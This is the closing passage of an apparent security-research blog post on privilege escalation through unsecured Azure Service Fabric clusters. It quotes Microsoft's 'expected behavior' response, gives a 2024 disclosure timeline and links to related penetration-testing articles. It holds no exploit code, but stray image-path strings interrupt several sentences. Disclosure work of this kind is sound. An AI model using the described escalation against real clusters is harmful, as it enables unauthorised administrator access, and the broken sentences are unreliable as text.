NetSPI disclosed this issue to MSRC, who provided the followingresponse:

“Upon investigation, we had determined that this is an expected behavior. You can refer the documentation https://learn.microsoft.com/en-us/azure/service-fabric/service-fabric-cluster-security . An SF cluster is a service management platform, exposing APIs that allow provisioning and executing code with an arbitrary level of privilege. An insecure cluster effectively elevates any caller to the role of machine administrator on each of its nodes. We have closed this case.”

While we’ve chosen to publish this research, we’ve purposefully made thePoC provided very easy to detect by using PowerShell and tools dropped to disk. We have also provided detection and hunting guidance.

The full timeline is shown below.

  • January 26, 2024 – Issue reported to MSRC
  • January 29, 2024– Issue Confirmed by MSRC
  • January 31, 2024 – Issue marked as “not a vulnerability” for Bug Bounty purposes
  • April 4, 2024 – Issue marked as “Out ofScope” due to being intended behavior. The content of the response is included above
  • April 4, 2024 – NetSPI ask Microsoft to confirm their decision, and toapprove publication
  • April 5, 2024 – Microsoft responds, requesting they are allowed to review the blog before publication and confirmingthat they have contacted the relevant teams to confirm the behavior is intentional
  • April 6, 2024 – Microsoftconfirms again that this is expected behaviour
  • April 18, 2024 – NetSPI submit a draft copy of this blog to MSRC for review, along with anintended publication date
  • April 22, 2024 – MSRC respond, requesting that NetSPI clarify that the cluster was “unsecured” and that a link to one of their articles on cluster security is included
  • May 28, 2024 – Blog post is published

Want to learn more? Check out these additional resources:

15 Ways to Bypass the PowerShell Execution Policy

Power Up YourAzure Penetration Testing

Extracting Sensitive Information from the Azure Batch Service